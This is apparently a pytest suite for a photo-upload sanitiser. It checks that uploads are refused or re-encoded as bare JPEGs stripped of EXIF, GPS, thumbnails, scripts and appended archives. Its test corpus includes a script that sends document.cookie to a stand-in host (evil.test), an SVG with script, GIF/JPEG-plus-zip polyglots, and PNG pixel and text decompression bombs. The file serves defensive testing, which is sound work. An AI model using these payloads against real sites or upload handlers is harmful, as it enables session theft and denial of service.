"""Every upload is refused or cleaned: what comes out is a JPEG of our own, and nothing else."""

import struct
import zipfile
import zlib
from io import BytesIO

import pytest
from PIL import Image, ImageCms, PngImagePlugin

from aid import photos
from aid.photo_files import PhotoRefused
from aid.photos import rewritten

pytestmark = pytest.mark.filterwarnings("ignore::PIL.Image.DecompressionBombWarning")

SCRIPT = b"<script>fetch('//evil.test/'+document.cookie)</script>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
# Makes, notes and coordinates as a phone writes them; none may come through.
MAKE, NOTE, SECRET = b"PhoneMaker", b"maker-note-7731", b"XMP-6.1754,106.8272"


def picture(size: tuple[int, int] = (64, 48), mode: str = "RGB") -> Image.Image:
    """Left half dark red, right half light: which side is which shows after turning."""
    made = Image.new("RGB", size, (240, 230, 220))
    made.paste((120, 10, 10), (0, 0, size[0] // 2, size[1]))
    return made.convert(mode)


def saved(made: Image.Image, kind: str, **options: object) -> bytes:
    out = BytesIO()
    made.save(out, kind, **options)
    return out.getvalue()


def with_segment(jpeg: bytes, marker: int, content: bytes) -> bytes:
    """The JPEG with a metadata segment put right after its start."""
    return (
        jpeg[:2] + bytes([0xFF, marker]) + struct.pack(">H", len(content) + 2) + content + jpeg[2:]
    )


def exif(orientation: int = 1) -> Image.Exif:
    made = Image.Exif()
    made[0x0112], made[0x010F] = orientation, MAKE.decode()
    made.get_ifd(0x8825).update({1: "S", 2: (6.0, 10.0, 31.0), 3: "E", 4: (106.0, 49.0, 38.0)})
    made.get_ifd(0x8769)[0x927C] = NOTE
    return made


def zipped() -> bytes:
    out = BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("Evil.class", b"cafebabe-payload")
    return out.getvalue()


def png_chunk(kind: bytes, content: bytes) -> bytes:
    body = kind + content
    return struct.pack(">I", len(content)) + body + struct.pack(">I", zlib.crc32(body))


def png_of(width: int, height: int, pixels: bytes = b"") -> bytes:
    """A PNG that claims a size; as many zeros as it likes compress to nearly nothing."""
    head = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + png_chunk(b"IHDR", head)
        + png_chunk(b"IDAT", zlib.compress(pixels))
        + png_chunk(b"IEND", b"")
    )


def text_bomb() -> bytes:
    """A PNG whose compressed text opens to 100 MB."""
    content = b"Comment\x00\x00" + zlib.compress(bytes(100_000_000), 9)
    plain = saved(picture(), "PNG")
    return plain[:33] + png_chunk(b"zTXt", content) + plain[33:]


def photo_with_everything() -> bytes:
    profile = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    jpeg = saved(picture(), "JPEG", exif=exif(), icc_profile=profile, comment=SCRIPT)
    jpeg = with_segment(jpeg, 0xE1, b"http://ns.adobe.com/xap/1.0/\x00" + SECRET)
    return with_segment(jpeg, 0xED, b"Photoshop 3.0\x008BIM" + SECRET)


def with_thumbnail() -> bytes:
    """EXIF whose second directory holds the picture as it was before it was cut."""
    thumb = saved(picture((16, 12)), "JPEG")
    ifd = struct.pack("<H", 2)
    ifd += struct.pack("<HHII", 0x0201, 4, 1, 14 + 30) + struct.pack(
        "<HHII", 0x0202, 4, 1, len(thumb)
    )
    block = b"II*\x00" + struct.pack("<I", 8) + struct.pack("<HI", 0, 14) + ifd + bytes(4) + thumb
    return with_segment(saved(picture(), "JPEG"), 0xE1, b"Exif\x00\x00" + block)


def png_with_text() -> bytes:
    told = PngImagePlugin.PngInfo()
    told.add_text("Comment", SCRIPT.decode())
    told.add_itxt("XML:com.adobe.xmp", SECRET.decode(), zip=False)
    return saved(picture(), "PNG", pnginfo=told, exif=exif())


def animated(kind: str) -> bytes:
    second = Image.new("RGB", (64, 48), (0, 200, 0))
    return saved(
        picture(), kind, save_all=True, append_images=[second], duration=100, lossless=True
    )


def deep_grey() -> bytes:
    row = struct.pack("<64H", *([5_000] * 32 + [60_000] * 32))
    return saved(Image.frombytes("I;16", (64, 48), row * 48), "PNG")


def see_through() -> bytes:
    made = picture(mode="RGBA")
    made.paste((0, 0, 0, 0), (32, 0, 64, 48))
    return saved(made.quantize(), "PNG")


REFUSED = {
    "nothing": (b"", "photo_empty"),
    "text": (b"not a photo", "photo_kind_unknown"),
    "html": (b"<!doctype html>" + SCRIPT, "photo_kind_unknown"),
    "svg with script": (SVG, "photo_kind_unknown"),
    "svg behind an xml head": (b'<?xml version="1.0"?>\n' + SVG, "photo_kind_unknown"),
    "gif": (saved(picture(), "GIF"), "photo_kind_unknown"),
    "gifar": (saved(picture(), "GIF") + zipped(), "photo_kind_unknown"),
    "zip": (zipped(), "photo_kind_unknown"),
    "zip before a jpeg": (zipped() + saved(picture(), "JPEG"), "photo_kind_unknown"),
    "bmp": (saved(picture(), "BMP"), "photo_kind_unknown"),
    "tiff": (saved(picture(), "TIFF"), "photo_kind_unknown"),
    "icon": (saved(picture(), "ICO"), "photo_kind_unknown"),
    "pdf": (saved(picture(), "PDF"), "photo_kind_unknown"),
    "postscript": (b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n", "photo_kind_unknown"),
    "pixel bomb": (png_of(50_000, 50_000, bytes(200_000)), "photo_too_many_pixels"),
    "just too many pixels": (png_of(8_000, 5_001), "photo_too_many_pixels"),
    "a line of pixels": (png_of(1, 40_000_000), "photo_too_many_pixels"),
    "text bomb": (text_bomb(), "photo_broken"),
    "claims more than it holds": (png_of(3_000, 3_000), "photo_broken"),
    "truncated jpeg": (saved(picture((640, 480)), "JPEG")[:-400], "photo_broken"),
    "truncated png": (saved(picture((640, 480)), "PNG")[:-60], "photo_broken"),
    "truncated webp": (saved(picture((640, 480)), "WEBP")[:-60], "photo_broken"),
    "only the start of a jpeg": (b"\xff\xd8\xff\xe0", "photo_kind_unknown"),
    "more than 8 MB": (saved(picture(), "JPEG") + bytes(photos.MOST_BYTES), "photo_too_large"),
}

# What comes in, and the size of what comes out.
CLEANED = {
    "plain": (saved(picture(), "JPEG"), (64, 48)),
    "everything a phone notes": (photo_with_everything(), (64, 48)),
    "thumbnail": (with_thumbnail(), (64, 48)),
    "jpeg and zip": (saved(picture(), "JPEG") + zipped(), (64, 48)),
    "jpeg and html": (saved(picture(), "JPEG") + SCRIPT, (64, 48)),
    "jpeg with script inside": (saved(picture(), "JPEG", comment=SCRIPT), (64, 48)),
    "png and jar": (saved(picture(), "PNG") + zipped(), (64, 48)),
    "png with text": (png_with_text(), (64, 48)),
    "webp": (saved(picture(), "WEBP", exif=exif()), (64, 48)),
    "animated webp": (animated("WEBP"), (64, 48)),
    "animated png": (animated("PNG"), (64, 48)),
    "cmyk": (saved(picture(mode="CMYK"), "JPEG"), (64, 48)),
    "grey": (saved(picture(mode="L"), "JPEG"), (64, 48)),
    "black and white": (saved(picture(mode="1"), "PNG"), (64, 48)),
    "16 bits": (deep_grey(), (64, 48)),
    "transparent palette": (see_through(), (64, 48)),
    "grey with alpha": (saved(picture(mode="LA"), "PNG"), (64, 48)),
    # 3,200 by 1,200 shrinks by two; 1 by 60,000 keeps a pixel of width.
    "large": (saved(picture((3_200, 1_200)), "JPEG"), (1_600, 600)),
    "a line": (saved(picture((1, 60_000)), "PNG"), (1, 1_600)),
    "turned": (saved(picture(), "JPEG", exif=exif(orientation=6)), (48, 64)),
}
HIDDEN = (
    SCRIPT,
    b"<script",
    SECRET,
    MAKE,
    NOTE,
    b"cafebabe",
    b"PK\x03\x04",
    b"Exif",
    b"ICC_PROFILE",
)
# Start, JFIF, tables, baseline frame, scan: what our own encoder writes.
OWN_SEGMENTS = {0xE0, 0xDB, 0xC0, 0xC4, 0xDA}


def segments(jpeg: bytes) -> list[int]:
    """The markers up to the scan."""
    assert jpeg[:2] == b"\xff\xd8"
    found, at = [], 2
    while not found or found[-1] != 0xDA:
        assert jpeg[at] == 0xFF
        found.append(jpeg[at + 1])
        at += 2 + int.from_bytes(jpeg[at + 2 : at + 4], "big")
    return found


@pytest.mark.parametrize("name", REFUSED)
def test_refused_with_a_stable_code(name: str) -> None:
    data, code = REFUSED[name]
    with pytest.raises(PhotoRefused) as refused:
        rewritten(data)
    assert refused.value.code == code


@pytest.mark.parametrize("name", CLEANED)
def test_cleaned_of_everything_but_pixels(name: str) -> None:
    data, size = CLEANED[name]
    clean, width, height = rewritten(data)
    with Image.open(BytesIO(clean)) as again:
        again.load()
        assert (again.format, again.mode, again.size) == ("JPEG", "RGB", size)
        assert not again.getexif() and set(again.info) <= {
            "jfif",
            "jfif_version",
            "jfif_unit",
            "jfif_density",
        }
    assert (width, height) == size
    assert set(segments(clean)) == OWN_SEGMENTS
    # Nothing follows the end, and nothing of what was hidden is there.
    assert clean.endswith(b"\xff\xd9") and clean.count(b"\xff\xd9") == 1
    assert not [hidden for hidden in HIDDEN if hidden in clean]


def test_corpus_holds_what_it_says() -> None:
    """What is cleaned away was there: the corpus's own test."""
    everything, text = photo_with_everything(), png_with_text()
    for hidden in (SCRIPT, SECRET, MAKE, NOTE, b"Exif", b"ICC_PROFILE"):
        assert hidden in everything
    assert SCRIPT in text and SECRET in text
    assert Image.open(BytesIO(everything)).getexif().get_ifd(0x8825)
    assert with_thumbnail().count(b"\xff\xd8\xff") == 2
    assert b"cafebabe" in zipped()


def colour(clean: bytes, x: int, y: int) -> tuple[int, int, int]:
    found = Image.open(BytesIO(clean)).convert("RGB").getpixel((x, y))
    assert isinstance(found, tuple)
    return found


def is_dark(found: tuple[int, int, int]) -> bool:
    return sum(found) < 300


@pytest.mark.parametrize(
    ("orientation", "dark", "light"),
    [
        # The left half is dark, of 64 by 48. Where it lies after each of the eight turns.
        (1, (10, 24), (54, 24)),
        (2, (54, 24), (10, 24)),
        (3, (54, 24), (10, 24)),
        (4, (10, 24), (54, 24)),
        (5, (24, 10), (24, 54)),
        (6, (24, 10), (24, 54)),
        (7, (24, 54), (24, 10)),
        (8, (24, 54), (24, 10)),
    ],
)
def test_photo_is_upright(orientation: int, dark: tuple[int, int], light: tuple[int, int]) -> None:
    clean, _, _ = rewritten(saved(picture(), "JPEG", quality=95, exif=exif(orientation)))
    assert is_dark(colour(clean, *dark)) and not is_dark(colour(clean, *light))


@pytest.mark.parametrize(
    "name", ["16 bits", "cmyk", "webp", "grey", "animated webp", "animated png"]
)
def test_colours_stay_what_they_were(name: str) -> None:
    clean, _, _ = rewritten(CLEANED[name][0])
    assert is_dark(colour(clean, 10, 24)) and not is_dark(colour(clean, 54, 24))


def test_transparent_parts_become_white() -> None:
    clean, _, _ = rewritten(see_through())
    assert is_dark(colour(clean, 10, 24))
    assert min(colour(clean, 54, 24)) > 245


def test_bomb_is_refused_before_anything_is_decoded(monkeypatch: pytest.MonkeyPatch) -> None:
    def decode(_: object) -> None:
        pytest.fail("decoded")

    monkeypatch.setattr(PngImagePlugin.PngImageFile, "load", decode)
    for bomb in ("pixel bomb", "just too many pixels", "a line of pixels"):
        with pytest.raises(PhotoRefused, match="photo_too_many_pixels"):
            rewritten(REFUSED[bomb][0])


def test_few_wait_for_their_photo_to_be_decoded() -> None:
    """Each of them keeps a thread that could answer others."""
    data = saved(picture(), "JPEG")
    others = 1 + photos.MOST_WAITING
    for _ in range(others):
        photos.room.acquire()
    with pytest.raises(PhotoRefused, match="photo_waits"):
        rewritten(data)
    photos.room.release(others)
    assert rewritten(data)


def test_photo_that_is_refused_keeps_no_place() -> None:
    for _ in range(2 + photos.MOST_WAITING):
        with pytest.raises(PhotoRefused, match="photo_broken"):
            rewritten(REFUSED["truncated png"][0])
